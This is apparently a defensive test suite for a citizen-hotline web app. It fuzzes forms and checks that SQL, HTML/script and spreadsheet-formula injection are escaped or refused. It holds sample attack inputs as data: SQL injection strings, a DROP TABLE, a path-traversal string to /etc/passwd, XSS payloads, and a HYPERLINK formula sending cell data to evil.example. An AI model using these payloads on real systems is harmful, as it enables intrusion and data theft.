"""Bad input, beyond tests/web/test_fuzz_forms.py (call form, case actions, query strings) and the
schemathesis run in tests/open311: the supervision forms, sign-in and the caller-history fragment
fuzzed; oversized bodies; SQL, HTML and spreadsheet-formula injection."""

from __future__ import annotations

import io
import re
from datetime import date, timedelta
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from hotline.domain.actors import SYSTEM_ACTOR
from hotline.domain.case import Call
from hotline.domain.formats import is_month
from hotline.domain.knowledge import ArticleContent
from hotline.web.views.knowledge import ARTICLE_ACTIONS
from tests.conftest import OPERATOR_ACTOR, SUPERVISOR_ACTOR
from tests.store.web.conftest import app, browser, signed_in, web_services  # noqa: F401 - fixtures
from tests.store.web.test_operator_pages import CALL

junk = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        [
            "",
            " ",
            "0",
            "-1",
            "2025-13-45",
            "9999-12-31",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "%",
            "_",
            "\x00",
            "字" * 3000,
            "HBJ",
            "CGJ,HBJ",
            "=1+1",
            "2025-10",
            "../../etc/passwd",
        ]
    ),
)
FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
REFERENCE = "市长批示〔2025〕9号"


def stored_events(services) -> int:
    return len(services.app.recorder.select_notifications(None, 1_000_000))


@pytest.fixture
def operator_desk(signed_in):  # noqa: F811 - signed in once per test, not once per example
    return signed_in("operator")


@pytest.fixture
def admin_desk(signed_in):  # noqa: F811
    return signed_in("admin")


@pytest.fixture
def supervisor_desk(signed_in):  # noqa: F811
    return signed_in("supervisor")


@pytest.fixture
def desks(signed_in, web_services):  # noqa: F811
    web_services.app.register_instruction(
        REFERENCE,
        SUPERVISOR_ACTOR,
        leader="张市长",
        content="整治噪音",
        lead_department="HBJ",
        cooperating_departments=["CGJ"],
        due=date.today() + timedelta(days=60),
    )
    return {who: signed_in(who) for who in ("hbj", "supervisor")}


@FUZZ
@given(
    data=st.dictionaries(
        st.sampled_from(["reference_no", "leader", "content", "lead_department", "cooperating", "due"]),
        junk,
        max_size=6,
    )
)
def test_the_register_form(desks, web_services, data):  # noqa: F811
    before = stored_events(web_services)
    good = {
        "reference_no": "批示-1",
        "leader": "李副市长",
        "content": "落实",
        "lead_department": "HBJ",
        "due": (date.today() + timedelta(days=30)).isoformat(),
    }
    response = desks["supervisor"].post("/supervisor/ledger/new", {**good, **data})
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert stored_events(web_services) == before  # nothing stored from a rejected form


ITEM_FIELDS = {
    "progress": ["content"],
    "feedback": ["month", "content"],
    "complete": ["summary"],
    "urge": ["note"],
    "due": ["due", "reason"],
    "verify": ["note"],
    "reopen": ["reason"],
}


@FUZZ
@given(
    action=st.sampled_from(sorted(ITEM_FIELDS)),
    values=st.lists(junk, min_size=2, max_size=2),
    version=junk,
    who=st.sampled_from(["hbj", "supervisor"]),
)
def test_every_supervision_item_action(desks, web_services, action, values, version, who):  # noqa: F811
    page = f"/supervision/items/{REFERENCE}"
    data = {f"{action}-{name}": value for name, value in zip(ITEM_FIELDS[action], values, strict=False)}
    data[f"{action}-version"] = version
    before = stored_events(web_services)
    response = desks[who].post(f"{page}/do/{action}", data, token_from=page)
    assert response.status_code in (302, 400, 403), response.status_code  # 400: refused, shown with the text kept
    stored = stored_events(web_services) - before
    assert stored == 0 if response.status_code != 302 else stored in (0, 1)


@FUZZ
@given(data=st.dictionaries(st.sampled_from(["escalate-due", "escalate-content", "escalate-version"]), junk))
def test_the_escalation_form(desks, web_services, data):  # noqa: F811
    ticket = web_services.app.open_case(
        Call(**{k: CALL[k] for k in ("channel", "category", "service_code", "description")}), OPERATOR_ACTOR
    ).ticket_no
    before = stored_events(web_services)
    response = desks["supervisor"].post(f"/cases/{ticket}/escalate", data, token_from=f"/cases/{ticket}")
    assert response.status_code == 400  # refused: the case page again, with what was typed
    assert stored_events(web_services) == before  # an opened case is not overdue: always refused


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(username=junk, password=junk)
def test_the_sign_in_form(browser, web_services, username, password):  # noqa: F811
    browser.client.application.extensions["hotline_sign_in"].store.clear()  # many tries: never slowed down
    before = stored_events(web_services)
    response = browser.login(username, password or "x")
    assert response.status_code in (400, 401), response.status_code
    assert stored_events(web_services) == before


@FUZZ
@given(params=st.dictionaries(st.sampled_from(["phone", "service_code"]), junk, max_size=2))
def test_the_caller_history_fragment(operator_desk, params):
    response = operator_desk.post("/operator/caller-history", params, token_from="/operator")
    assert response.status_code == 200
    assert "<script>alert(1)</script>" not in response.text


@FUZZ
@given(
    path=st.sampled_from(["/operator/kb-suggestions", "/cases", "/cases/export.csv"]),
    params=st.dictionaries(st.sampled_from(["q", "phone", "ticket", "status", "department", "page"]), junk, max_size=4),
)
def test_the_suggestions_and_search_forms(operator_desk, path, params):
    response = operator_desk.post(path, params, token_from="/operator")
    assert response.status_code in (200, 400)  # an export of a malformed filter is refused with the page
    assert "<script>alert(1)</script>" not in response.text


def test_oversized_bodies_are_refused_with_413(signed_in, web_services, app):  # noqa: F811
    operator = signed_in("operator")
    huge = "字" * 100_000  # 300 KB of UTF-8, over the 256 KB limit
    response = operator.post("/calls/new", {**CALL, "description": huge})
    assert response.status_code == 413 and "内容过大" in response.text
    key = web_services.app.issue_api_key("测试", SYSTEM_ACTOR).key
    client = app.test_client()
    response = client.post(
        "/open311/v2/requests.json",
        data={"api_key": key, "service_code": "noise", "description": huge, "address_string": "解放路 1 号"},
    )
    assert response.status_code == 413 and response.json[0]["code"] == 413
    response = client.post("/open311/v2/requests.xml", data={"api_key": key, "description": huge})
    assert response.status_code == 413 and b"<code>413</code>" in response.data
    assert list(web_services.app.case_ids()) == []


def test_sql_in_search_fields_is_only_text(services):
    hotline, models = services.app, services.read_models
    for description in ("噪音 100% 超标", "噪音_夜间", "普通噪音投诉", "O'Brien 的店铺 ' OR 1=1 --"):
        hotline.open_case(
            Call(channel="phone", category="complaint", service_code="noise", description=description), OPERATOR_ACTOR
        )
    models.catch_up()

    def found(text):
        return sorted(row.description for row in models.cases.search(text=text)[0])

    assert found("%") == ["噪音 100% 超标"]  # a wildcard is a character like any other
    assert found("_") == ["噪音_夜间"]
    assert found("!") == []  # the escape character itself
    assert found("' OR 1=1 --") == ["O'Brien 的店铺 ' OR 1=1 --"]
    assert found("'; DROP TABLE cases; --") == []
    assert len(models.cases.search()[0]) == 4  # the table is still there, with every row
    assert models.cases.search(ticket_no="' OR '1'='1")[1] == 0
    assert models.cases.search(phone="' OR 1=1 --")[1] == 0


def test_search_page_with_sql_and_wildcards(signed_in, web_services):  # noqa: F811
    operator = signed_in("operator")
    operator.post("/calls/new", {**CALL, "description": "噪音 100% 超标"})
    operator.post("/calls/new", {**CALL, "description": "普通噪音投诉"})
    for q, hits in (("%", 1), ("' OR 1=1 --", 0), ("噪音", 2)):
        page = operator.get("/cases", query_string={"q": q}).text
        assert len(re.findall(r'href="/cases/\d{8}-\d{6}"', page)) == hits, q


SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'


def test_html_in_descriptions_is_escaped_in_pages(signed_in, web_services):  # noqa: F811
    operator, supervisor = signed_in("operator"), signed_in("supervisor")
    response = operator.post("/calls/new", {**CALL, "description": SCRIPT, "address": SCRIPT, "caller_name": "<b>x"})
    ticket = response.headers["Location"].rsplit("/", 1)[1]
    web_services.app.register_instruction(
        "批示<script>",
        SUPERVISOR_ACTOR,
        leader="<script>x",
        content=SCRIPT,
        lead_department="HBJ",
        due=date.today() + timedelta(days=9),
    )
    pages = [
        operator.get(f"/cases/{ticket}").text,
        operator.get("/cases", query_string={"q": "script"}).text,
        supervisor.get(f"/audit/cases/{ticket}").text,
        supervisor.get("/supervisor/ledger").text,
        supervisor.get("/supervision/items/批示<script>").text,
    ]
    for page in pages:
        assert "<script>alert" not in page and "<img src=x" not in page and "<b>x" not in page
    assert "&lt;script&gt;alert" in pages[0] and "&lt;script&gt;alert" in pages[3]


def test_formulas_in_the_ledger_export_stay_text(signed_in, web_services):  # noqa: F811
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "=1+1"]
    for number, text in enumerate(attacks):
        web_services.app.register_instruction(
            f"批示-{number}",
            SUPERVISOR_ACTOR,
            leader=text,
            content=text,
            lead_department="HBJ",
            due=date.today() + timedelta(days=9),
        )
    month = date.today().strftime("%Y-%m")
    response = signed_in("supervisor").get("/supervisor/ledger.xlsx", query_string={"month": month})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value in attacks]
    assert len(cells) == 2 * len(attacks)  # leader and content of each item
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


# Every POST route of the app and the test that fuzzes it (here or in tests/web, tests/open311).
FUZZED_POSTS = {
    "/login": "test_the_sign_in_form",
    "/logout": "no fields but the CSRF token (tests/web/test_login.py)",
    "/calls/new": "tests/web/test_fuzz_forms.py::test_the_call_form",
    "/operator/caller-history": "test_the_caller_history_fragment",
    "/operator/kb-suggestions": "test_the_suggestions_and_search_forms",
    "/cases": "test_the_suggestions_and_search_forms",
    "/admin/users/new": "tests/web/test_accounts.py::test_the_account_forms",
    "/admin/users/<username>/<name>": "tests/web/test_accounts.py::test_the_account_forms",
    "/cases/export.csv": "test_the_suggestions_and_search_forms",
    "/cases/export.xlsx": "test_the_suggestions_and_search_forms",
    "/cases/<ticket_no>/<name>": "tests/web/test_fuzz_forms.py::test_every_case_action + test_the_extension_decisions",
    "/cases/<ticket_no>/escalate": "test_the_escalation_form",
    "/supervisor/ledger/new": "test_the_register_form",
    "/supervision/items/<path:reference_no>/do/<name>": "test_every_supervision_item_action",
    "/kb/new": "test_the_article_forms",
    "/kb/<number>/<name>": "test_the_article_forms",
    "/notifications/<key>/requeue": "test_the_requeue_form",
    "/supervisor/ranking/close": "test_the_month_close_form",
    "/supervisor/clusters/<key>/merge": "test_the_cluster_forms",
    "/supervisor/clusters/<key>/escalate": "test_the_cluster_forms",
    "/open311/v2/requests.<fmt>": "tests/open311/test_openapi_property.py (schemathesis)",
    "/sms/replies": "tests/store/notifications/test_sms_replies.py (a property test of signed bodies)",
    "/open311/v2/": "catch-all: answers 404/405 in the API's format",
    "/open311/v2/<path:rest>": "catch-all: answers 404/405 in the API's format",
}


def test_every_form_and_action_is_fuzzed(app):  # noqa: F811
    from hotline.web.views.cases import ACTIONS
    from hotline.web.views.supervision import ITEM_ACTIONS
    from tests.store.web.test_fuzz_forms import ACTION_FIELDS

    posts = {rule.rule for rule in app.url_map.iter_rules() if "POST" in rule.methods}
    assert posts == set(FUZZED_POSTS), posts ^ set(FUZZED_POSTS)
    assert set(ACTIONS) == set(ACTION_FIELDS) | set(DECISION_FIELDS)
    assert set(ITEM_ACTIONS) == set(ITEM_FIELDS)
    assert set(ARTICLE_ACTIONS) == set(ARTICLE_FIELDS)


CONTENT = ["title", "question", "answer", "basis", "basis_no", "services", "valid_from", "valid_until"]
ARTICLE_FIELDS = {
    "edit": CONTENT,
    "submit": [],
    "publish": [],
    "return": ["reason"],
    "revise": [*CONTENT, "reason"],
    "withdraw": ["reason"],
}


@FUZZ
@given(
    action=st.sampled_from(["new", *sorted(ARTICLE_FIELDS)]),
    values=st.lists(junk, min_size=10, max_size=10),
    version=junk,
    who=st.sampled_from(["hbj", "supervisor", "admin"]),
)
def test_the_article_forms(article_desks, web_services, action, values, version, who):  # noqa: F811
    """Drafting and every step of an article, fed nonsense: 302/400/403/404, never a 500, and
    nothing stored from a refused form."""
    from tests.conftest import department

    hotline = web_services.app
    content = ArticleContent("噪声", "噪声找谁", "转生态环境部门", "噪声法", "主席令第104号", ("noise",), date.today())
    number = hotline.draft_article(department("HBJ"), "HBJ", content).number
    desk = article_desks[who]
    fields = ["department", *CONTENT] if action == "new" else ARTICLE_FIELDS[action]
    prefix = "new" if action == "new" else action
    data = {f"{prefix}-{name}": value for name, value in zip(fields, values, strict=False)}
    data[f"{prefix}-version"] = version
    before = stored_events(web_services)
    path = "/kb/new" if action == "new" else f"/kb/{number}/{action}"
    response = desk.post(path, data, token_from="/kb")
    assert response.status_code in (302, 400, 403, 404), response.status_code
    if response.status_code != 302:
        assert stored_events(web_services) == before


@pytest.fixture
def article_desks(signed_in):  # noqa: F811
    return {who: signed_in(who) for who in ("hbj", "supervisor", "admin")}


def path_redirect(key: str) -> tuple[int, ...]:
    """A key with a slash in a path segment: the router decodes %2F and answers an empty segment
    (``0//requeue``) with its redirect to the merged path (308), before any view runs."""
    return (308,) if "/" in key else ()


@FUZZ
@given(key=junk, note=junk, version=junk)
def test_the_requeue_form(admin_desk, web_services, key, note, version):  # noqa: F811
    before = stored_events(web_services)
    response = admin_desk.post(
        f"/notifications/{quote(key, safe='')}/requeue",
        {"requeue-note": note, "requeue-version": version},
        token_from="/notifications",
    )
    assert response.status_code in (302, 400, 404, *path_redirect(key)), response.status_code
    assert stored_events(web_services) == before  # no message with such a key: nothing to requeue


@FUZZ
@given(month=junk)
def test_the_month_close_form(admin_desk, web_services, month):  # noqa: F811
    response = admin_desk.post("/supervisor/ranking/close", {"month": month}, token_from="/supervisor/ranking")
    assert response.status_code == 302, response.status_code  # refused or done, with a message
    if is_month(month) and web_services.app.month_close(month) is not None:
        assert month < f"{web_services.clock.now():%Y-%m}"  # only a month that has ended is closed


@FUZZ
@given(action=st.sampled_from(["merge", "escalate"]), key=junk, department=junk, due=junk)
def test_the_cluster_forms(supervisor_desk, web_services, action, key, department, due):  # noqa: F811
    before = stored_events(web_services)
    response = supervisor_desk.post(
        f"/supervisor/clusters/{quote(key, safe='')}/{action}",
        {"escalate-lead_department": department, "escalate-due": due},
        token_from="/supervisor/hotspots",
    )
    assert response.status_code in (302, 400, 404, *path_redirect(key)), response.status_code
    assert stored_events(web_services) == before  # no cluster has such a key: nothing merged or registered


DECISION_FIELDS = {"approve_extension": [], "reject_extension": ["reason"]}


@FUZZ
@given(
    action=st.sampled_from(sorted(DECISION_FIELDS)),
    reason=junk,
    version=junk,
    who=st.sampled_from(["hbj", "supervisor"]),
)
def test_the_extension_decisions(desks, web_services, action, reason, version, who):  # noqa: F811
    hotline = web_services.app
    ticket = hotline.open_case(
        Call(channel="phone", category="complaint", service_code="noise", description="噪音"), OPERATOR_ACTOR
    ).ticket_no
    from tests.conftest import department

    hotline.dispatch(ticket, OPERATOR_ACTOR, department="HBJ")
    hotline.sign(ticket, department("HBJ"))
    hotline.request_extension(ticket, department("HBJ"), 3, "需要协调多个部门")
    data = {f"{action}-{name}": reason for name in DECISION_FIELDS[action]}
    data[f"{action}-version"] = version
    before = stored_events(web_services)
    response = desks[who].post(f"/cases/{ticket}/{action}", data, token_from=f"/cases/{ticket}")
    assert response.status_code in (302, 400, 403), response.status_code
    stored = stored_events(web_services) - before
    assert stored == 0 if response.status_code == 403 or version != "4" else stored in (0, 1)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    params=st.dictionaries(
        st.sampled_from(
            [
                "q",
                "ticket",
                "phone",
                "status",
                "department",
                "page",
                "month",
                "at",
                "kind",
                "source",
                "service_code",
                "next",
            ]
        ),
        junk,
        max_size=4,
    ),
    index=st.integers(min_value=0),
)
def test_query_strings_on_every_page(admin_desk, app, params, index):  # noqa: F811
    admin = admin_desk
    pages = sorted(
        rule.rule
        for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and not rule.rule.startswith(("/open311", "/static"))
    )
    path = pages[index % len(pages)]
    path = path.replace("<ticket_no>", "20250101-000001").replace("<path:reference_no>", "批示-1")
    response = admin.get(path, query_string=params)
    # An export of a filter it cannot apply (a malformed one, a number in the URL) is refused with 400.
    allowed = (200, 302, 404, 400) if path.startswith("/cases/export") else (200, 302, 404)
    assert response.status_code in allowed, (path, params, response.status_code)
